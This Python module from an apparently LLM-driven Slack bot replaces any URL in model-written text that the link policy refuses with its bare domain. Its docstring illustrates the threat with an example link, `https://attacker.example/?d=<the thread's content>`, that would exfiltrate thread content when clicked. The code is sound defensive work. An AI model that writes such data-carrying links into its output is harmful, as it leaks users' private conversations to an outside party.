"""A URL the bot may not link, shown as words: its domain only.

A report, a progress line or a canvas shows text the model wrote, and a URL in it is a request
waiting for a click: `https://attacker.example/?d=<the thread's content>`. The publishing layer
decides which URLs may be links (bot/publishing/link_policy.py: the run's sources and Slack's own
permalinks); every other URL written in text is replaced by its domain, which carries no path or
query. Found the way Slack and Markdown make links by themselves: a scheme (`http://`, `https://`),
or `www.`.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from urllib.parse import urlsplit

__all__ = ["LinkPolicy", "domain_only", "foreign_urls_as_domains", "web_urls_in"]

LinkPolicy = Callable[[str], bool]

# A URL written in text, as Slack or a Markdown renderer would make it a link by itself.
_URL = re.compile(r"(?:https?://|www\.)[^\s<>|\"'`]+", re.IGNORECASE)
# Punctuation that ends a sentence rather than a URL ("see https://x.example/a.").
_TRAILING = ".,;:!?)]}*_~"
# A web URL written in text, with a scheme (a `www.` one is no link target of its own).
_WEB_URL = re.compile(r"https?://[^\s<>|\"'`]+", re.IGNORECASE)


def web_urls_in(text: str) -> list[tuple[int, int]]:
    """Where each http(s) URL written in `text` starts and ends (trailing punctuation left out)."""
    spans = []
    for match in _WEB_URL.finditer(text):
        url = match.group().rstrip(_TRAILING)
        spans.append((match.start(), match.start() + len(url)))
    return spans


def domain_only(url: str) -> str:
    """The host a URL names, lower-cased; the URL's start when it has none."""
    shown = url if "://" in url else f"http://{url}"
    try:
        host = urlsplit(shown).hostname
    except ValueError:
        host = None
    return host or shown.split("://", 1)[-1].split("/", 1)[0].split("?", 1)[0]


def _allowed(url: str, allowed: LinkPolicy) -> bool:
    if "://" in url:
        return allowed(url)
    return allowed(f"https://{url}") or allowed(f"http://{url}")  # "www.…": either scheme


def foreign_urls_as_domains(text: str, allowed: LinkPolicy) -> str:
    """`text` with every URL the policy refuses replaced by its domain (trailing punctuation kept)."""

    def one(match: re.Match[str]) -> str:
        found = match.group()
        url = found.rstrip(_TRAILING)
        tail = found[len(url) :]
        return found if _allowed(url, allowed) else domain_only(url) + tail

    return _URL.sub(one, text) if text else text
